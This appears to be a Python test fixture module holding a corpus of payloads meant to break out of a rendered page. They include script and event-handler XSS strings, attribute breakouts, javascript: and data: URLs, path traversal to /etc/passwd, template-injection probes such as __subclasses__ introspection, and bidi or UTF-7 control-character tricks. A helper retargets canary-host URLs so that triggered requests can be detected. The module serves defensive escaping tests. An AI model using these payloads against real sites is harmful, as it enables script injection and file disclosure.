"""Texts that try to break out of a page: markup, attributes, addresses, templates, controls."""

from __future__ import annotations

CANARY = "http://canary.invalid"

_MARKUP = (
    "<script>window.pwned=1</script>",
    "<SCRIPT SRC=http://canary.invalid/a.js></SCRIPT>",
    "</script><script>window.pwned=1</script>",
    "<script\x0ctype=module>window.pwned=1</script>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<img src=http://canary.invalid/i onerror=window.pwned=1>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=window.pwned=1>",
    "<img srcset='http://canary.invalid/s 1x'>",
    "<image href=http://canary.invalid/i2>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><use href='http://canary.invalid/u#a'/></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>top.pwned=1</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=window.pwned=1>'>",
    "<math href='javascript:window.pwned=1'>x</math>",
    "<body onload=window.pwned=1>",
    "<body background=http://canary.invalid/b>",
    "<video autoplay onloadstart=window.pwned=1 src=http://canary.invalid/v></video>",
    "<audio src=http://canary.invalid/au autoplay>",
    "<input autofocus onfocus=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "<marquee onstart=window.pwned=1>x</marquee>",
    "<iframe src=http://canary.invalid/f></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=http://canary.invalid/o></object>",
    "<embed src=http://canary.invalid/e>",
    "<link rel=stylesheet href=http://canary.invalid/c.css>",
    "<link rel=prefetch href=http://canary.invalid/p>",
    "<link rel=dns-prefetch href=//canary.invalid>",
    "<meta http-equiv=refresh content='0;url=http://canary.invalid/r'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<base href=http://canary.invalid/>",
    "<form action=http://canary.invalid/form><button autofocus>x</button></form>",
    "<style>@import 'http://canary.invalid/i.css'; body{background:url(http://canary.invalid/bg)}</style>",
    "<div style=background:url(http://canary.invalid/d)>x</div>",
    "<a href=javascript:window.pwned=1 autofocus>x</a>",
    "<a href=http://canary.invalid/a ping=http://canary.invalid/ping>x</a>",
    "<template><script>window.pwned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<textarea></textarea><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</mark></div></article></main></body></html><script>window.pwned=1</script>",
    "<!--><script>window.pwned=1</script-->",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "<?xml-stylesheet href='http://canary.invalid/x.css'?>",
    "<plaintext>",
    "<x/onclick=window.pwned=1//",
    "<<b>img src=x onerror=window.pwned=1>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "&#x3c;img src=x onerror=window.pwned=1&#x3e;",
)
_ATTRIBUTES = (
    '" onmouseover="window.pwned=1" autofocus onfocus="window.pwned=1',
    "' onmouseover='window.pwned=1' x='",
    '"><img src=x onerror=window.pwned=1>',
    "'><svg/onload=window.pwned=1>",
    "` onerror=`window.pwned=1",
    '"/><script>window.pwned=1</script><a title="',
    'x" style="background:url(http://canary.invalid/st)" y="',
    '\n" onfocus=window.pwned=1 autofocus tabindex=0 "',
)
_ADDRESSES = (
    "javascript:window.pwned=1",
    "java\tscript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "//canary.invalid/slash",
    "https://canary.invalid/plain and http://canary.invalid/two",
    "../../../../etc/passwd",
    "c-1/../../about?page=2#x",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
)
_TEMPLATES = (
    "{{ 7*7 }} {% raw %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{%- include '/etc/passwd' -%}",
    "${7*7} #{7*7} <%= 7*7 %> [[7*7]]",
    "%(password)s %s {0.__class__} {}",
    "{# comment #}{{ directory }}",
)
_CONTROLS = (
    "\u202ereversed\u202c and \u2066isolated\u2069",
    "\u202e</mark>\u202d<script>window.pwned=1</script>",
    "zero\u200bwidth\u200djoiner\ufeffbom\u00adsoft\u2060word",
    "nul\x00 bell\x07 escape\x1b[31m delete\x7f next\x85",
    "lines\u2028and\u2029paragraphs\r\nand\rreturns",
    "tags \U000e0041\U000e0042\U000e007f fillers \u3164\u115f\uffa0\u034f",
    "lone \ud800 surrogate \udfff",
    "z" + "\u0310\u0352\u0334" * 200 + "algo",
    "\ufdfd" * 40,
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 42000017 \u05d0",
    "\u200f\u061c" * 300,
    "\ufffe\uffff noncharacters",
    "a" * 5_000,
    "＜script＞window.pwned=1＜/script＞",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
)

PAYLOADS = _MARKUP + _ATTRIBUTES + _ADDRESSES + _TEMPLATES + _CONTROLS


def aimed_at(address: str) -> list[str]:
    """The corpus with the canary's real address, so that a request it causes would be seen."""
    return [
        payload.replace(CANARY, address).replace("//canary.invalid", address.removeprefix("http:"))
        for payload in PAYLOADS
    ]
